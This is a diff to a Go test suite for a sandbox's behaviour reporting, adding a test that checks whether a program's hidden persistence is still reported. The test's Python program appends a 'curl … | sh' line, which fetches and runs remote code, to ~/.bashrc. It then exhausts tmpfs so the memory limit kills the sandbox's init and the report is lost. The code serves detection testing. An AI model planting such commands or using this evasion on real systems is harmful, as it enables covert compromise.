@@ -21,6 +21,7 @@ func integrityCases() []testCase {
 		{name: "report-tamper", fn: testReportTamper},
 		{name: "walk-flood", fn: testWalkFlood},
 		{name: "hang-hides", fn: testHangHides},
+		{name: "limit-hides", fn: testLimitHides},
 	}
 }
 
@@ -215,5 +216,41 @@ time.sleep(100000)
 	}
 	if hasFinding(res, "evasion", "the report is incomplete") {
 		t.Errorf("the report of a run ended by its timeout is incomplete: %+v", res.Findings)
+	}
+}
+
+// testLimitHides: the program writes a startup file, then fills the
+// writable space with files until the memory limit ends the run (tmpfs
+// pages count against it, and belong to no process: the kernel's OOM
+// killer then takes the largest process, which a program that keeps
+// itself small makes the sandbox's init). The report must see the file,
+// or say that it is incomplete: in containers it said nothing.
+func testLimitHides(t *testing.T, s *suite) {
+	if s.reportOff() {
+		t.Skip("no behaviour report (Options.NoReport or MOAT_EVENTS=off)")
+	}
+	spec := s.py(`
+import os, time
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+print('written', flush=True)
+chunk = b'z' * (1 << 20)
+for d in ('/tmp', '/dev/shm', '/work', os.path.expanduser('~')):
+    try:
+        with open(d + '/fill', 'wb') as f:
+            while True:
+                f.write(chunk)
+    except OSError:
+        pass
+time.sleep(100000)
+`)
+	spec.Limits.Memory = 96 << 20
+	spec.Limits.Timeout = 30*time.Second + s.opts.ProgramStart
+	res, err := s.runOrErr(t, spec)
+	if !strings.Contains(res.Stdout, "written") {
+		t.Fatalf("status %s (err %v), stdout %q: the file was not written", res.Status, err, res.Stdout)
+	}
+	if !hasFinding(res, "persistence", ".bashrc") && !hasFinding(res, "evasion", "the report is incomplete") {
+		t.Errorf("status %s: the startup file went unreported, and the report did not say it was incomplete: %+v", res.Status, res.Findings)
 	}
 }
